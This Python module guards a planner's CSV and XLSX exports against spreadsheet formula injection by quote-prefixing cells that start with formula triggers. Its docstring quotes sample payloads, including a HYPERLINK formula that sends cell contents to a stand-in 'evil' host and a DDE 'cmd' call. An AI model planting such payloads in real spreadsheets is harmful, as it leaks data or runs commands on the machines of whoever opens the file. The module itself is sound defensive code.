"""Cells a spreadsheet will show, never run: every CSV and XLSX the planner writes goes through here.

A cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel and LibreOffice
(`=HYPERLINK("http://evil/?"&A1)`, `@SUM(…)`, `+cmd|' /C calc'!A0`): a liaison's "function" or "phone" could
then run when staff open an export (CSV injection, OWASP). So text that starts with one of them is written as text:
in CSV with a leading apostrophe (the one prefix every spreadsheet reads as "this is text"); in XLSX as a string
cell with Excel's quote prefix (the hidden apostrophe), so the cell shows exactly what was typed and stays text even
when someone edits it. Numbers and dates are written as they are.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def starts_formula(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)


def csv_cell(value: Any) -> Any:
    """A value for `csv.writer`: text that a spreadsheet would take for a formula gets a leading apostrophe."""
    return "'" + value if starts_formula(value) else value


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_cell(value) for value in values]


def xlsx_append(sheet: Any, values: Iterable[Any]) -> None:
    """`sheet.append(values)`, with text that looks like a formula stored as a quote-prefixed string cell
    (openpyxl would otherwise store a value starting with "=" as a formula)."""
    values = list(values)
    sheet.append(values)
    for cell, value in zip(sheet[sheet.max_row], values, strict=False):
        if starts_formula(value):
            cell.value = value
            cell.data_type = "s"
            cell.quotePrefix = True
